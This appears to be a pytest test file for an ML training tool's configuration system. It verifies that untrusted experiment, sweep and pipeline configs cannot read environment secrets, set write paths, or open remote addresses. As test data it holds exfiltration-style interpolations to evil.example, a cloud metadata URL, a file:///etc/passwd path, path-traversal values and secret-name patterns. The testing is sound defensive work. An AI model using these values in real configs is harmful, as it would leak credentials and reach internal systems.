"""Which configs may read the environment or choose output paths, and how values from it are saved. Imports no torch."""

import random
from pathlib import Path

import pytest
import yaml
from omegaconf import OmegaConf

from lmtrain import secrets
from lmtrain.config import compose as rules
from lmtrain.config import environment
from lmtrain.config.compose import check, compose
from lmtrain.config.defaults import conf_dir
from lmtrain.config.environment import as_written, readings
from lmtrain.config.fingerprint import changes, fingerprint
from lmtrain.config.interpolations import escaped
from lmtrain.errors import UserError
from lmtrain.stages import definition, plan
from lmtrain.stages import definition as command
from lmtrain.sweeps import plan as sweep_plan
from lmtrain.sweeps.trials import Trials
from lmtrain.sweeps.trials import command as command_of

CANARY = "c4n4ry-hunter2-c4n4ry"
# Each reads the variable S in another way that OmegaConf offers; `spare` is a key that the config adds itself.
WAYS = [
    "${oc.env:S}",
    "https://evil.example/?k=${oc.env:S}",
    "${oc.select:spare.value}",
    "${spare.value}",
    "${.project}",
    "${oc.env:NOT_SET,${oc.env:S}}",
]


@pytest.fixture(autouse=True)
def _environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("S", CANARY)
    monkeypatch.setattr(environment, "_trusted", set())
    monkeypatch.setattr(secrets, "_read", set())


def experiment(folder: Path, tree: object) -> str:
    """Writes the experiment `theirs` to a folder and returns the folder, for --config-dir."""
    (folder / "experiment").mkdir(exist_ok=True)
    (folder / "experiment" / "theirs.yaml").write_text("# @package _global_\n" + yaml.safe_dump(tree))
    return str(folder)


@pytest.mark.parametrize("text", WAYS)
def test_an_experiment_of_somebody_else_reads_no_environment(text: str, tmp_path: Path) -> None:
    spare = {"name": "env", "value": "${oc.env:S}"} if "value" in text else {"name": "env"}
    wandb = {"entity": text, "project": "${oc.env:S}" if "project" in text else "p"}
    folder = experiment(tmp_path, {"logger": {"wandb": wandb}, "spare": spare})
    words = ["logger=wandb", "experiment=theirs"]
    with pytest.raises(UserError, match=r"theirs\.yaml reads the environment there \((NOT_SET, )?S") as refused:
        compose(words, folder)
    assert CANARY not in str(refused.value)
    environment.trust([tmp_path / "experiment" / "theirs.yaml"])
    assert CANARY in str(OmegaConf.to_container(compose(words, folder), resolve=True))


def test_what_is_typed_reads_the_environment_whatever_else_is_composed(tmp_path: Path) -> None:
    folder = experiment(tmp_path, {"seed": 3})
    config = check(compose(["experiment=theirs", "data=text", "data.path='x?k=${oc.env:S}'"], folder))
    assert config.data.path == f"x?k={CANARY}"
    # If a foreign config copies a typed value to another key, the config reads the environment there, not the user.
    folder = experiment(tmp_path, {"logger": {"wandb": {"entity": "${data.path}"}}})
    with pytest.raises(UserError, match=r"logger\.wandb\.entity: .*theirs\.yaml reads the environment"):
        compose(["logger=wandb", "experiment=theirs", "data=text", "data.path='x?k=${oc.env:S}'"], folder)


def test_text_that_looks_like_an_interpolation_stays_text(tmp_path: Path) -> None:
    folder = experiment(tmp_path, {"logger": {"wandb": {"notes": "\\${oc.env:S}", "project": "\\\\\\${oc.env:S}"}}})
    config = check(compose(["logger=wandb", "experiment=theirs"], folder))
    assert config.logger["wandb"]["notes"] == "${oc.env:S}"
    again = check(rules.undumped(rules.dump(config), "config.yaml"))
    assert again.logger == config.logger
    assert CANARY not in str(again.logger)


def test_a_runs_config_reads_no_environment_where_nobody_vouches_for_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = check(compose(["data=text", "data.path='x?k=${oc.env:S}'", "optimizer.lr=${oc.env:LR,1e-3}"]))
    file = tmp_path / "config.yaml"
    file.write_text(rules.dump(config))
    assert CANARY not in file.read_text()
    assert rules.load(file, {}, own=True).data.path == f"x?k={CANARY}"
    with pytest.raises(UserError, match=r"optimizer\.lr"):  # not a number, since nothing is read
        rules.load(file, {})
    assert f"--trust {file}" in capsys.readouterr().err
    environment.trust([file])
    assert rules.load(file, {}).data.path == f"x?k={CANARY}"
    assert rules.load(file, {}).optimizer.lr == 1e-3


def test_any_text_is_read_back_as_it_was(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MY_TOKEN", CANARY)
    chosen = random.Random(0)
    for _ in range(2000):
        text = "".join(chosen.choices(["\\", "$", "{", "}", "a", ":", "${", "\\${", CANARY, "oc.env"], k=7))
        assert OmegaConf.create({"key": escaped(text)}).key == text
        written = as_written(text)
        assert CANARY not in written
        assert OmegaConf.create({"key": written}).key == text


def test_conf_reads_only_what_is_no_secret() -> None:
    texts = "".join(file.read_text() for file in conf_dir().rglob("*.yaml"))
    assert set(texts.split("oc.env:")[1:][0].split(",")[:1]) == environment.OPEN
    assert texts.count("oc.env:") == 1
    assert readings(compose([])) == {}


@pytest.mark.parametrize(
    ("name", "secret"),
    [
        ("HF_TOKEN", True),
        ("AWS_SECRET_ACCESS_KEY", True),
        ("PGPASSWORD", True),
        ("OPENAI_API_KEY", True),
        ("GCP_CREDENTIALS", True),
        ("TOKENIZERS_PARALLELISM", False),
        ("KEYBOARD", False),
        ("SSL_KEY_FILE", False),
        ("LANG", False),
    ],
)
def test_names_that_say_secret(name: str, secret: bool) -> None:
    assert secrets.is_secret(name) is secret


def test_values_that_say_nothing_are_not_hidden(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in {"A_TOKEN": "short", "B_KEY": str(tmp_path), "C_TOKEN": CANARY}.items():
        monkeypatch.setenv(name, value)
    text = f"short {tmp_path}/run {CANARY}"
    assert secrets.hide(text) == f"short {tmp_path}/run ${{oc.env:C_TOKEN}}"


def test_signatures_and_logins_are_not_shown() -> None:
    text = "https://me:pw@host/a.txt?X-Amz-Date=1&X-Amz-Signature=abc&sig=d%2Fe#f and hf_token=x"
    assert secrets.shown(text) == "https://***@host/a.txt?X-Amz-Date=1&X-Amz-Signature=***&sig=***#f and hf_token=x"
    assert secrets.shown("https://h/?key=${oc.env:K}") == "https://h/?key=${oc.env:K}"


WRITES = {
    "callbacks.extra": [{"_target_": "lightning.pytorch.callbacks.ModelCheckpoint", "dirpath": "here"}],
    "logger.csv": {"prefix": "/etc/x"},
    "logger.wandb": {"dir": "elsewhere"},
    "logger.mlflow": {"tracking_uri": "sqlite:////tmp/x.db"},
    "run.dir": "/tmp/elsewhere",
    "run.root": "../..",
    "data.cache_dir": "/tmp/elsewhere",
    "evaluate.dir": "src",
    "generate.out": "README.md",
    "inspect.html": "~/x.html",
    "tune.dir": "src",
    "sweep.root": "/tmp",
}


@pytest.mark.parametrize("key", WRITES)
def test_an_experiment_of_somebody_else_does_not_say_where_to_write(key: str, tmp_path: Path) -> None:
    tree: dict[str, object] = {}
    first, *rest = key.split(".")
    tree[first] = {rest[0]: WRITES[key]}
    folder = experiment(tmp_path, tree)
    words = ["logger=[csv,wandb]", "experiment=theirs"]
    with pytest.raises(UserError, match=rf"theirs\.yaml sets {first}\..*counts only where you type it"):
        compose(words, folder)
    environment.trust([tmp_path / "experiment" / "theirs.yaml"])
    compose(words, folder)


ADDRESSES: dict[str, object] = {
    "data.path": "http://169.254.169.254/latest/meta-data",
    "data.val_path": "simplecache::file:///etc/passwd",
    "data.val_sets": {"other": {"path": ["a.txt", "s3://bucket/a.txt"]}},
    "data.mixture": [{"path": "github://a:b@c/d", "weight": 1}],
}


@pytest.mark.parametrize("key", ADDRESSES)
def test_an_experiment_of_somebody_else_has_no_address_opened(key: str, tmp_path: Path) -> None:
    folder = experiment(tmp_path, {"data": {key.removeprefix("data."): ADDRESSES[key]}})
    words = ["data=text", "experiment=theirs"]
    with pytest.raises(UserError, match=rf"theirs\.yaml sets {key}.*://.*no address"):
        compose(words, folder)
    if isinstance(ADDRESSES[key], str):
        compose([*words, f"{key}='{ADDRESSES[key]}'"], folder)
        compose([*words, f"{key}=/somewhere/here.txt"], folder)
    environment.trust([tmp_path / "experiment" / "theirs.yaml"])
    compose(words, folder)


def test_local_data_of_an_experiment_is_read(tmp_path: Path) -> None:
    folder = experiment(tmp_path, {"data": {"path": "/data/a.txt", "val_sets": {"b": {"name": "wikitext"}}}})
    assert compose(["data=text", "experiment=theirs"], folder).data.path == "/data/a.txt"


@pytest.mark.parametrize(("key", "value"), [("data.path", "choice('https://x/a','b')"), ("run.root", "'/x','/y'")])
def test_the_space_of_a_sweep_of_somebody_else_is_looked_through(key: str, value: str, tmp_path: Path) -> None:
    folder = experiment(tmp_path, {"sweep": {"space": {key: value}}})
    words = ["sweep=grid", "data=text", "experiment=theirs", f"sweep.root={tmp_path}"]
    with pytest.raises(UserError, match=rf"theirs\.yaml sets {key}=.*counts only where you type it"):
        sweep_plan.make("train", words, folder, "config")
    environment.trust([tmp_path / "experiment" / "theirs.yaml"])
    assert sweep_plan.make("train", words, folder, "config").swept


def test_a_place_behind_another_key_is_seen(tmp_path: Path) -> None:
    entry = [{"_target_": "lightning.pytorch.callbacks.ModelCheckpoint", "filename": "../../x"}]
    folder = experiment(tmp_path, {"callbacks": {"extra": "${mine}"}, "mine": entry})
    with pytest.raises(UserError, match=r"theirs\.yaml sets callbacks\.extra=.*\.\./\.\./x"):
        compose(["experiment=theirs"], folder)


def test_a_runs_own_config_says_where_it_lies(tmp_path: Path) -> None:
    config = check(compose([f"run.dir={tmp_path}"]))
    (tmp_path / "config.yaml").write_text(rules.dump(config))
    assert check(compose([], str(tmp_path))).run.dir == str(tmp_path)
    sent = tmp_path / "sent"
    sent.mkdir()
    (sent / "config.yaml").write_text(rules.dump(check(compose(["run.dir=/tmp/elsewhere"]))))
    with pytest.raises(UserError, match=r"run\.dir="):
        compose([], str(sent))
    assert check(compose(["run.dir=mine"], str(sent))).run.dir == "mine"


@pytest.mark.parametrize("word", ["evaluate.name=../summary", "evaluate.name=a/b", "run.name=../x"])
def test_names_stay_in_their_folder(word: str) -> None:
    with pytest.raises(UserError, match=r"use a-z"):
        check(compose([word]))


def test_a_sweeps_name_stays_in_its_folder() -> None:
    with pytest.raises(UserError, match=r"sweep\.name='\.\./x': use a-z"):
        sweep_plan.make("train", ["sweep.name=../x", "seed=1,2"], None, "config")


def test_an_empty_cache_is_not_the_working_folder(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LMTRAIN_CACHE", "")
    with pytest.raises(UserError, match=r"data\.cache_dir is empty"):
        check(compose([]))


PIPELINES = {
    "reads the environment there": "'data.path=https://evil.example/?k=${oc.env:S}'",
    "sets callbacks.extra=[{": "'callbacks.extra=[{_target_: lightning.pytorch.callbacks.Timer, dirpath: /x}]'",
    'sets data.cache_dir="/x"': "data.cache_dir=/x",
    "no address": "'data.path=zip://a.txt::https://evil.example/b.zip'",
}


@pytest.mark.parametrize("said", PIPELINES)
def test_a_pipeline_of_somebody_else_neither_reads_nor_says_where_to_write(said: str, tmp_path: Path) -> None:
    file = tmp_path / "theirs.yaml"
    file.write_text(f"stages:\n  one:\n    overrides:\n      - data=text\n      - {PIPELINES[said]}\n")

    def made(*typed: str) -> plan.PipelinePlan:
        pipeline = definition.read(file)
        return plan.make(pipeline, command.sort([f"pipeline={file}", *typed], pipeline), None)

    with pytest.raises(UserError, match=r"stage one: .*theirs\.yaml") as refused:
        made()
    assert said in str(refused.value)
    environment.trust([file])
    assert made().stages[0].name == "one"


def test_a_path_typed_for_a_stage_is_the_users(tmp_path: Path) -> None:
    file = tmp_path / "theirs.yaml"
    file.write_text("stages:\n  one:\n    overrides:\n      - data=text\n")
    pipeline = definition.read(file)
    typed = [f"pipeline={file}", "one.data.path='x?k=${oc.env:S}'", "data.cache_dir=/tmp/elsewhere"]
    made = plan.make(pipeline, command.sort(typed, pipeline), None)
    assert made.stages[0].config.data.path == f"x?k={CANARY}"


def test_a_sweep_of_somebody_else_reads_no_environment(tmp_path: Path) -> None:
    folder = experiment(tmp_path, {"sweep": {"space": {"data.path": "'x?k=${oc.env:S}','y'"}}})
    with pytest.raises(UserError, match="reads the environment"):
        sweep_plan.make("train", ["experiment=theirs", "data=text"], folder, "config")
    experiment(tmp_path, {"sweep": {"space": {"data.path": "'x?k=\\${oc.env:S}','y'"}}})
    made = sweep_plan.make("train", ["experiment=theirs", "data=text"], folder, "config")
    assert CANARY not in str(made.config)


def test_trials_keep_no_secret_and_are_found_again(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("S_TOKEN", CANARY)
    trials = Trials(tmp_path)
    first = trials.add([f"data.path='x?k={CANARY}'"], ["seed=3"])
    trials.write()
    assert CANARY not in (tmp_path / "trials.jsonl").read_text()
    assert trials.find(["seed=3"], [f"data.path='x?k={CANARY}'"]) is first
    words = [w for w in command_of(first, tmp_path) if not w.startswith("run.dir=")]
    assert check(compose(["data=text", *words])).data.path == f"x?k={CANARY}"


def test_fingerprints_have_a_hash_in_a_secrets_place(monkeypatch: pytest.MonkeyPatch) -> None:
    group = "optimizer.groups=[{{pattern: {}, lr: 1e-3}}]"
    monkeypatch.setenv("SEED", "5")
    read = check(compose(["seed=${oc.env:SEED}", group.format("'${oc.env:S}'")]))
    plain = check(compose(["seed=5", group.format(CANARY)]))
    ours, theirs = fingerprint(read, {}), fingerprint(plain, {})
    assert CANARY not in str(ours)
    assert ours["keys"]["seed"] == 5
    # The same run as one with the value typed, and another run than one with another value.
    assert changes(theirs, ours, {}, read) == changes(ours, theirs, {}, plain) == changes(ours, ours, {}, read) == []
    other = fingerprint(check(compose(["seed=5", group.format("another-canary")])), {})
    assert [change.name for change in changes(other, ours, {}, read)] == ["optimizer.groups"]
